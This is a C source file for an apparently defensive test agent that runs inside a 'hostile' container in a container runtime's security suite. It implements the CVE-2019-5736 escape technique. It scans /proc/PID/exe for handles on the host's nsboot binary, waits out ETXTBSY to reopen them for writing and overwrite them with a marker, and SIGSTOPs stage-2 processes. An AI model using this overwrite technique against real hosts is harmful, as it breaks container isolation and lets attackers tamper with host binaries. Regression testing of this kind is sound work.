/* SPDX-License-Identifier: Apache-2.0 */
/*
 * agent.c - the hostile container's own programs, one static binary at
 * /hostile/agent in the rootfs (tests/hostile). Every line it logs is
 * appended to a file inside the container, which the suite reads from the
 * host through the rootfs.
 *
 *   agent init FD
 *       the container's init: tell FD we run, then reap children forever
 *   agent writer FD LOG [SECONDS]
 *       FD is an O_PATH handle on some binary: retry opening it for writing
 *       while it is busy (ETXTBSY) for up to SECONDS (3), then write a marker
 *       at its start (CVE-2019-5736's overwrite)
 *   agent scan LOG DEV INO SECONDS STOPFILE
 *       until STOPFILE exists: open /proc/PID/exe O_PATH of every process
 *       that appears in the container (the next pids first, then all of
 *       /proc), keep the handles on the file DEV:INO (the host's nsboot),
 *       and at the end try the writer's overwrite through each
 *   agent stop2 LOG SECONDS STOPFILE
 *       until STOPFILE exists: SIGSTOP the first process that appears in
 *       the container's pid namespace (stage-2 of an nsboot exec, caught
 *       at birth), then exit
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MARKER   "HOSTILE-MARKER\n"
#define MAX_HITS 16
#define MAX_DENY 64
#define MAX_SEEN 256

static const char *log_path = "/tmp/hostile/agent.log";

static void logf_(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static void logf_(const char *fmt, ...)
{
	char line[1024];
	va_list ap;
	int fd, n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n > sizeof(line) - 2)
		n = (int)sizeof(line) - 2;
	line[n++] = '\n';
	fd = open(log_path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	if (fd < 0)
		return;
	if (write(fd, line, (size_t)n) < 0) {
		/* nowhere else to report it */
	}
	close(fd);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void nap_ms(long ms)
{
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR) {
	}
}

static void noop(int sig)
{
	(void)sig;
}

static int init(int fd)
{
	sigset_t chld, none;
	struct sigaction sa;

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = noop;
	sigaction(SIGCHLD, &sa, NULL);
	sigemptyset(&chld);
	sigaddset(&chld, SIGCHLD);
	sigemptyset(&none);
	sigprocmask(SIG_BLOCK, &chld, NULL);
	if (write(fd, "r", 1) != 1)
		return 1;
	close(fd);
	for (;;) {
		while (waitpid(-1, NULL, WNOHANG) > 0) {
		}
		sigsuspend(&none);
	}
}

static void describe(int fd, char *link, size_t cap, struct stat *st)
{
	char path[64];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, link, cap - 1);
	link[n > 0 ? n : 0] = '\0';
	if (fstat(fd, st) < 0)
		memset(st, 0, sizeof(*st));
}

/* The overwrite through an O_PATH handle: reopen it for writing once not busy. */
static void overwrite(int fd, double seconds)
{
	char path[64], link[512];
	struct stat st;
	double end = now() + seconds;

	describe(fd, link, sizeof(link), &st);
	logf_("writer pid=%d target=%s dev=%lu ino=%lu", (int)getpid(), link, (unsigned long)st.st_dev,
	      (unsigned long)st.st_ino);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (;;) {
		int w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			ssize_t n = pwrite(w, MARKER, strlen(MARKER), 0);
			if (n == (ssize_t)strlen(MARKER))
				logf_("writer: WROTE the marker into %s", link);
			else
				logf_("writer: opened %s for writing, but the write failed: %s", link,
				      n < 0 ? strerror(errno) : "short");
			close(w);
			return;
		}
		if (errno == ETXTBSY && now() < end) {
			nap_ms(5);
			continue;
		}
		logf_("writer: cannot open %s for writing: %s", link, strerror(errno));
		return;
	}
}

static int writer(int fd, double seconds)
{
	overwrite(fd, seconds);
	logf_("writer done");
	return 0;
}

static void comm_of(pid_t pid, char *comm, size_t cap);

struct scan {
	pid_t self;
	dev_t dev;
	ino_t ino;
	int hits[MAX_HITS];
	pid_t hit_pid[MAX_HITS];
	int nhits;
	pid_t denied[MAX_DENY];
	int ndenied;
	pid_t seen[MAX_SEEN];
	int nseen, nstages;
	unsigned long opened, refused;
};

/* Log each process once, with what its exe link was when first opened. */
static void saw(struct scan *s, pid_t pid, int fd)
{
	char comm[64], link[256];
	struct stat st;

	for (int i = 0; i < s->nseen; i++) {
		if (s->seen[i] == pid)
			return;
	}
	if (s->nseen == MAX_SEEN)
		return;
	s->seen[s->nseen++] = pid;
	comm_of(pid, comm, sizeof(comm));
	describe(fd, link, sizeof(link), &st);
	if (strncmp(comm, "nsb", 3) == 0)
		s->nstages++;
	logf_("scan: saw pid %d (%s) exe=%s", (int)pid, comm, link);
}

static void comm_of(pid_t pid, char *comm, size_t cap)
{
	char path[64];
	ssize_t n = -1;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		n = read(fd, comm, cap - 1);
		close(fd);
	}
	comm[n > 0 ? n : 0] = '\0';
	comm[strcspn(comm, "\n")] = '\0';
}

static void probe(struct scan *s, pid_t pid)
{
	char path[64], comm[64];
	struct stat st;
	int fd;

	if (pid <= 1 || pid == s->self)
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (errno != EACCES && errno != EPERM)
			return; /* gone, or not there yet */
		s->refused++;
		for (int i = 0; i < s->ndenied; i++) {
			if (s->denied[i] == pid)
				return;
		}
		if (s->ndenied < MAX_DENY) {
			s->denied[s->ndenied++] = pid;
			comm_of(pid, comm, sizeof(comm));
			logf_("scan: pid %d (%s): open exe: %s", (int)pid, comm, strerror(errno));
		}
		return;
	}
	s->opened++;
	saw(s, pid, fd);
	if (fstat(fd, &st) < 0 || st.st_dev != s->dev || st.st_ino != s->ino) {
		close(fd);
		return;
	}
	for (int i = 0; i < s->nhits; i++) {
		if (s->hit_pid[i] == pid) {
			close(fd);
			return;
		}
	}
	comm_of(pid, comm, sizeof(comm));
	logf_("scan: HIT pid %d (%s): its exe is the host's nsboot (dev=%lu ino=%lu)", (int)pid, comm,
	      (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	if (s->nhits < MAX_HITS) {
		s->hit_pid[s->nhits] = pid;
		s->hits[s->nhits++] = fd;
	} else {
		close(fd);
	}
}

static pid_t last_pid(void)
{
	char buf[32];
	ssize_t n = -1;
	int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);

	if (fd >= 0) {
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
	}
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	return (pid_t)atoi(buf);
}

static void scan_all(struct scan *s)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (d == NULL)
		return;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
			probe(s, (pid_t)atoi(e->d_name));
	}
	closedir(d);
}

static int scan(unsigned long dev, unsigned long ino, double seconds, const char *stopfile)
{
	struct scan s;
	double end = now() + seconds;
	unsigned long round = 0;

	memset(&s, 0, sizeof(s));
	s.self = getpid();
	s.dev = (dev_t)dev;
	s.ino = (ino_t)ino;
	logf_("scan: ready");
	while (now() < end) {
		pid_t last = last_pid();
		for (pid_t p = last - 1; last > 0 && p <= last + 3; p++)
			probe(&s, p);
		if (++round % 64 == 0) {
			scan_all(&s);
			if (access(stopfile, F_OK) == 0)
				break;
		}
	}
	logf_("scan: summary hits=%d stages-seen=%d refused=%lu opened=%lu rounds=%lu", s.nhits, s.nstages,
	      s.refused, s.opened, round);
	for (int i = 0; i < s.nhits; i++)
		overwrite(s.hits[i], 3.0);
	logf_("scan done");
	return 0;
}

/* The pids that exist now (never stage-2): stop2 leaves them alone. */
static int existing_pids(pid_t *out, int cap)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int n = 0;

	if (d == NULL)
		return 0;
	while ((e = readdir(d)) != NULL && n < cap) {
		if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
			out[n++] = (pid_t)atoi(e->d_name);
	}
	closedir(d);
	return n;
}

static int stop2(double seconds, const char *stopfile)
{
	double end = now() + seconds;
	unsigned long round = 0;
	pid_t old[MAX_SEEN];
	int nold = existing_pids(old, MAX_SEEN);
	char comm[64], path[64], link[256];

	logf_("stop2: ready (%d processes here already)", nold);
	while (now() < end) {
		pid_t last = last_pid();
		if (++round % 256 == 0 && access(stopfile, F_OK) == 0)
			break;
		for (pid_t p = last - 1; last > 0 && p <= last + 3; p++) {
			int known = p <= 1;
			for (int i = 0; i < nold && !known; i++)
				known = old[i] == p;
			if (known || kill(p, SIGSTOP) < 0)
				continue;
			comm_of(p, comm, sizeof(comm));
			snprintf(path, sizeof(path), "/proc/%d/exe", (int)p);
			ssize_t n = readlink(path, link, sizeof(link) - 1);
			link[n > 0 ? n : 0] = '\0';
			logf_("stop2: stopped pid %d (%s) exe=%s", (int)p, comm,
			      n > 0 ? link : strerror(errno));
			return 0;
		}
	}
	logf_("stop2: stopped nothing");
	return 1;
}

static double arg_seconds(const char *s, double dflt)
{
	return s != NULL ? strtod(s, NULL) : dflt;
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	if (strcmp(cmd, "init") == 0 && argc == 3)
		return init(atoi(argv[2]));
	if (strcmp(cmd, "writer") == 0 && (argc == 4 || argc == 5)) {
		log_path = argv[3];
		return writer(atoi(argv[2]), arg_seconds(argc == 5 ? argv[4] : NULL, 3.0));
	}
	if (strcmp(cmd, "scan") == 0 && argc == 7) {
		log_path = argv[2];
		return scan(strtoul(argv[3], NULL, 10), strtoul(argv[4], NULL, 10), arg_seconds(argv[5], 5.0),
		            argv[6]);
	}
	if (strcmp(cmd, "stop2") == 0 && argc == 5) {
		log_path = argv[2];
		return stop2(arg_seconds(argv[3], 5.0), argv[4]);
	}
	fprintf(stderr,
	        "usage: agent init FD | writer FD LOG [SECONDS] | scan LOG DEV INO SECONDS STOPFILE | "
	        "stop2 LOG SECONDS STOPFILE\n");
	return 2;
}
